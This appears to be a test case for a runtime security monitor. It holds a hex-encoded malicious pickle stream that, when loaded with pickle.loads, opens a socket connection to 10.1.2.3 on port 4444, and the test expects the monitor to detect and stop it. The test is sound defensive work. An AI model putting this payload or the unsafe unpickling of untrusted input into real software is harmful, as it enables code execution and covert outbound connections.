# expect: detected
# threat: 24 egress out of a pickle
# at: runtime
# family: egress
# severity: medium
# decision: stopped
# stdin: 63736f636b65740a6372656174655f636f6e6e656374696f6e0a2828532731302e312e322e33270a49343434340a744931

import pickle
import sys

# The stream says socket.create_connection(("10.1.2.3", 4444), 1).
stream = bytes.fromhex(sys.stdin.readline().strip()) + b"\ntR."
try:
    pickle.loads(stream)
except OSError as e:
    print(e)
